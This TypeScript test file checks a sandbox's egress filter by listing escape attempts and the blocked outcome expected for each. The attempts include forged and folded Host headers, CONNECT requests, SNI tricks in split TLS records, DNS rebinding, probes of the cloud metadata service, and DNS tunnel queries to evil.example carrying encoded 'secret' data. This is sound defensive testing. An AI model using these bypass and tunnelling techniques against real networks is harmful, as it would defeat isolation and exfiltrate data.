/** Attempts with ordinary sockets to leave a guest that has RULES, each with its expected outcome. */
import assert from 'node:assert/strict'
import { type Attempt, datagram, dnsQuery, NO_RESPONSE, tcpExchange } from './attacker.ts'
import { clientHello, inRecords } from './client-hello.ts'
import { EVIL, NAME_SERVER, PUBLIC_HOST, RULED, runCommand, SHOP, UPLINK, WILD } from './isolated-machine.ts'

export const RULES = [
  'shop.example',
  '*.wild.example',
  'plain.example:80',
  'xn--bcher-kva.example',
  'rebind.example',
  'metadata.example',
  'mixed.example',
  'host.example',
  RULED[0],
  `${RULED[1]}:7777`,
  '203.0.113.128/25:80',
  // A private address that the operator has not allowed.
  '10.9.9.9',
  // A private address that the operator has allowed.
  '172.20.0.1:80',
]
const TYPE = { A: 1, NS: 2, NULL: 10, MX: 15, TXT: 16, AAAA: 28, HTTPS: 65, ANY: 255 }
const HELLO = {
  shop: await clientHello('shop.example'),
  upperCase: await clientHello('ShOp.ExAmPlE.'),
  plain: await clientHello('plain.example'),
  evil: await clientHello('evil.example'),
  below: await clientHello('www.shop.example'),
  nameless: await clientHello(),
}

const get = (host: string, target = '/') => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
const http = (to: string, ...parts: string[]) => tcpExchange(to, 80, ...parts)
const https = (to: string, ...parts: Buffer[]) => tcpExchange(to, 443, ...parts)

export type AttemptRow = [description: string, attempt: Attempt, expected: string | RegExp]
const OK = (address: string, host: string) => new RegExp(`^HTTP/1.1 200 OK.*${address} as ${host}$`, 's')
const FORBIDDEN = /^HTTP\/1\.1 403 Forbidden.*egress refused/s
const ALERT = Buffer.from([21, 3, 3, 0, 2, 2, 112]).toString('latin1')

export const WEB: AttemptRow[] = [
  ['HTTP to an allowed host', http(SHOP, get('shop.example')), OK(SHOP, 'shop.example')],
  ['at a forged address', http(EVIL, get('shop.example')), OK(SHOP, 'shop.example')],
  ['at a forged private address', http('10.9.9.10', get('shop.example')), NO_RESPONSE],
  ['another host at the allowed address', http(SHOP, get('evil.example')), FORBIDDEN],
  ['upper case and a trailing dot', http(SHOP, get('SHOP.Example.')), OK(SHOP, 'SHOP.Example.')],
  ['an IDN in its xn-- form', http(SHOP, get('xn--bcher-kva.example')), OK(SHOP, 'xn--bcher-kva.example')],
  ['an IDN in UTF-8', http(SHOP, get('b\xc3\xbccher.example')), FORBIDDEN],
  ['a host below a plain rule', http(SHOP, get('www.shop.example')), FORBIDDEN],
  ['a longer name with the same ending', http(SHOP, get('notshop.example')), FORBIDDEN],
  ['a name with the same beginning', http(EVIL, get('shop.example.evil.example')), FORBIDDEN],
  ['below a wildcard', http(EVIL, get('a.b.wild.example')), OK(WILD, 'a.b.wild.example')],
  ['the apex of a wildcard', http(WILD, get('wild.example')), FORBIDDEN],
  ['HTTP/1.0 with Host', http(SHOP, 'GET / HTTP/1.0\r\nHost: shop.example\r\n\r\n'), OK(SHOP, 'shop.example')],
  ['HTTP/1.0 without Host', http(SHOP, 'GET / HTTP/1.0\r\n\r\n'), FORBIDDEN],
  ['two Host headers', http(SHOP, 'GET / HTTP/1.1\r\nHost: shop.example\r\nHost: evil.example\r\n\r\n'), FORBIDDEN],
  ['a folded Host header', http(SHOP, 'GET / HTTP/1.1\r\nHost:\r\n evil.example\r\n\r\n'), FORBIDDEN],
  ['absolute form, same host', http(SHOP, get('shop.example', 'http://shop.example/')), OK(SHOP, 'shop.example')],
  ['absolute form, another host', http(SHOP, get('shop.example', 'http://evil.example/')), FORBIDDEN],
  ['CONNECT', http(SHOP, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'), FORBIDDEN],
  ['CONNECT, allowed host', http(SHOP, 'CONNECT shop.example:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n'), FORBIDDEN],
  ['a head in many segments', http(SHOP, ...get('shop.example').match(/.{1,6}/gs)!), OK(SHOP, 'shop.example')],
  ['pipelined, same host', http(SHOP, get('shop.example') + get('shop.example')), /(as shop\.example.*){2}$/s],
  ['pipelined, another host', http(SHOP, get('shop.example') + get('evil.example')), /^(?!.*as evil)/s],
  ['keep-alive, another host', http(SHOP, get('shop.example'), get('evil.example')), /^(?!.*as evil)/s],
  ['HTTP/2 without TLS', http(SHOP, 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), FORBIDDEN],
  ['a TLS hello on port 80', http(SHOP, HELLO.shop.toString('latin1')), /^(HTTP\/1\.1 403|closed|no response)/],
  ['TLS to an allowed host', https(SHOP, HELLO.shop), `tls ${SHOP}`],
  ['TLS at a forged address', https(EVIL, HELLO.shop), `tls ${SHOP}`],
  ['TLS, upper case and a trailing dot', https(EVIL, HELLO.upperCase), `tls ${SHOP}`],
  ['TLS to another host', https(SHOP, HELLO.evil), ALERT],
  ['TLS to a host below', https(SHOP, HELLO.below), ALERT],
  ['TLS without a name', https(SHOP, HELLO.nameless), ALERT],
  ['a hello in records of 60 bytes', https(EVIL, Buffer.concat(inRecords(HELLO.shop, 60))), `tls ${SHOP}`],
  ['a hello in records and segments', https(EVIL, ...inRecords(HELLO.shop, 60)), `tls ${SHOP}`],
  ['another host in records and segments', https(SHOP, ...inRecords(HELLO.evil, 60)), ALERT],
  ['another host in records of one byte', https(SHOP, Buffer.concat(inRecords(HELLO.evil, 1))), ALERT],
  ['TLS where a rule says port 80', https(SHOP, HELLO.plain), ALERT],
  ['HTTP where a rule says port 80', http(EVIL, get('plain.example')), OK(SHOP, 'plain.example')],
  ['SSH on port 443', https(SHOP, Buffer.from('SSH-2.0-x\r\n')), ALERT],
  ['HTTP on port 443', https(SHOP, Buffer.from(get('shop.example'))), ALERT],
  ['a name that resolves to a private address', http(SHOP, get('rebind.example')), FORBIDDEN],
  ['a name that resolves to the metadata service', http(SHOP, get('metadata.example')), FORBIDDEN],
  ['a name that resolves to this host', http(SHOP, get('host.example')), FORBIDDEN],
  [
    'a name that resolves to a private and a public address',
    http(EVIL, get('mixed.example')),
    OK(SHOP, 'mixed.example'),
  ],
]

export const ADDRESSES: AttemptRow[] = [
  ['an allowed address', tcpExchange(RULED[0], 80), `hello ${UPLINK.address}`],
  ['an allowed address, at another port', tcpExchange(RULED[1], 9000), NO_RESPONSE],
  // Port 80 goes to the proxy, which requires an allowed name.
  ['the same at port 80', tcpExchange(RULED[1], 80, get(RULED[1])), FORBIDDEN],
  ['an allowed block and port', tcpExchange(RULED[2], 80), `hello ${UPLINK.address}`],
  ['an allowed block, at another port', tcpExchange(RULED[2], 9000), NO_RESPONSE],
  ['an address that no rule names', tcpExchange(PUBLIC_HOST, 9000), NO_RESPONSE],
  ['a private address in a rule', tcpExchange('10.9.9.9', 80), NO_RESPONSE],
  ['a private address that the operator allows too', tcpExchange('172.20.0.1', 80), `hello ${UPLINK.address}`],
  ['the same at another port', tcpExchange('172.20.0.1', 9000), NO_RESPONSE],
  ['the metadata service', tcpExchange('169.254.169.254', 80), NO_RESPONSE],
  ['raw UDP to port 443 of an allowed host', datagram(SHOP, 443, 'quic'), 'sent'],
  ['UDP to an allowed address and port', datagram(RULED[1], 7777, 'ruled'), 'sent'],
  ['UDP to port 443 of an allowed address', datagram(RULED[0], 443, 'quic-ruled'), 'sent'],
  ['UDP to any other address', datagram(PUBLIC_HOST, 7777, 'evil'), 'sent'],
]

export const NAMES: AttemptRow[] = [
  ['a query for an allowed name', dnsQuery('shop.example'), `NOERROR ${SHOP}`],
  ['in upper case', dnsQuery('SHOP.EXAMPLE'), `NOERROR ${SHOP}`],
  ['over TCP', dnsQuery('shop.example', TYPE.A, { overTcp: true }), `NOERROR ${SHOP}`],
  ['to another name server', dnsQuery('shop.example', TYPE.A, { server: '203.0.113.77' }), `NOERROR ${SHOP}`],
  ['its IPv6 address', dnsQuery('shop.example', TYPE.AAAA), 'NOERROR'],
  ['its HTTPS record', dnsQuery('shop.example', TYPE.HTTPS), 'NOERROR'],
  ['a name that no rule names', dnsQuery('evil.example'), 'NXDOMAIN'],
  ['TXT tunnel', dnsQuery('c2VjcmV0.t1.evil.example', TYPE.TXT), 'NXDOMAIN'],
  ['TXT tunnel over TCP', dnsQuery('c2VjcmV0.t2.evil.example', TYPE.TXT, { overTcp: true }), 'NXDOMAIN'],
  ['TXT tunnel, public server', dnsQuery('c2VjcmV0.t3.evil.example', TYPE.TXT, { server: NAME_SERVER }), 'NXDOMAIN'],
  ['TXT tunnel below an allowed host', dnsQuery('c2VjcmV0.t4.shop.example', TYPE.TXT), 'NXDOMAIN'],
  ['NULL tunnel', dnsQuery('c2VjcmV0.t5.evil.example', TYPE.NULL), 'NXDOMAIN'],
  ['MX tunnel', dnsQuery('c2VjcmV0.t6.evil.example', TYPE.MX), 'NXDOMAIN'],
  ['ANY tunnel', dnsQuery('c2VjcmV0.t7.evil.example', TYPE.ANY), 'NXDOMAIN'],
  ['the apex of a wildcard', dnsQuery('wild.example', TYPE.TXT), 'NXDOMAIN'],
  ['the root', dnsQuery('example', TYPE.NS), 'NXDOMAIN'],
]

/**
 * Every port on which this machine listens. Of the host a guest reaches only the resolver and the egress proxy, and not the
 * API, which no rule of the attacker names.
 */
export function attemptsAtThisHost(apiPort: number): AttemptRow[] {
  const listeners = [...runCommand('ss -Hltn').matchAll(/ (\S+):(\d+) /g)].map(([, at, port]) => ({
    at,
    port: Number(port),
  }))
  assert.ok(listeners.some(({ port }) => port === apiPort))
  const httpRequest = get('evil.example')
  return listeners.flatMap(({ at, port }): AttemptRow[] => [
    [`this host, ${UPLINK.address}:${port}`, tcpExchange(UPLINK.address, port, httpRequest), NO_RESPONSE],
    [`this host, 172.30.0.1:${port}`, tcpExchange('172.30.0.1', port, httpRequest), NO_RESPONSE],
    [
      `this host, 169.254.1.1:${port}`,
      tcpExchange('169.254.1.1', port, httpRequest),
      at === '169.254.1.1' && port !== apiPort
        ? new RegExp(`^(closed|no response|${ALERT})$|${FORBIDDEN.source}`, 's')
        : NO_RESPONSE,
    ],
  ])
}

export const attemptsAtSandbox = (ip: string): AttemptRow[] =>
  [22, 80, 443, 9000].map((port) => [
    `another sandbox, port ${port}`,
    tcpExchange(ip, port, get('shop.example')),
    NO_RESPONSE,
  ])

/** Whether the outcome is as expected, and a line for the printed table. */
export function checkOutcome(
  [description, , expected]: AttemptRow,
  outcome: string,
): { passes: boolean; line: string } {
  const passes = typeof expected === 'string' ? outcome === expected : expected.test(outcome)
  const parts = outcome.split('\r\n')
  const summary = JSON.stringify(parts.length === 1 ? outcome : `${parts[0]} … ${parts.at(-1)}`)
  return { passes, line: `${passes ? 'ok ' : 'BAD'} ${description}: ${summary}${passes ? '' : `, not ${expected}`}` }
}
